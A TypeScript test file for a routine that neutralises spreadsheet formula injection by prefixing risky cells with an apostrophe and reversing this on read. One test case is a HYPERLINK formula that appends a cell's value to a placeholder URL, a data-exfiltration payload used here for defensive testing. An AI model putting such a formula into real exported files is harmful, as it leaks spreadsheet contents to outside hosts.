import assert from 'node:assert/strict';
import { test } from 'node:test';
import { neutraliseFormula, restoreFormula } from './formula.ts';

test('cells a spreadsheet would run as formulas get a leading apostrophe', () => {
  const cases: Array<[string, string]> = [
    ['=HYPERLINK("http://x?"&A1)', `'=HYPERLINK("http://x?"&A1)`],
    ['+1', `'+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\tindented', `'\tindented`],
    ['\rreturn', `'\rreturn`],
    // Already apostrophed: one more, so that reading takes off exactly what writing added.
    [`'=1`, `''=1`],
  ];
  for (const [cell, written] of cases) assert.equal(neutraliseFormula(cell), written, JSON.stringify(cell));
});

test('other cells are written as they are', () => {
  for (const cell of ['a";=1', 'x;=1+2', 'Plain text', '', `'quoted`, ' =1', '2023-01-11', 'JP;US', 'مرحبا', '🇯🇵']) {
    assert.equal(neutraliseFormula(cell), cell);
  }
});

test('reading takes off exactly the one apostrophe writing added, so every text survives', () => {
  const texts = ['=1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', `'=1`, `''=1`, `'plain`, `'`, 'a";=1', '', '-'];
  for (const text of texts) assert.equal(restoreFormula(neutraliseFormula(text)), text, JSON.stringify(text));
  // A hand-written cell with an apostrophe before ordinary text keeps it.
  assert.equal(restoreFormula(`'hello`), `'hello`);
});
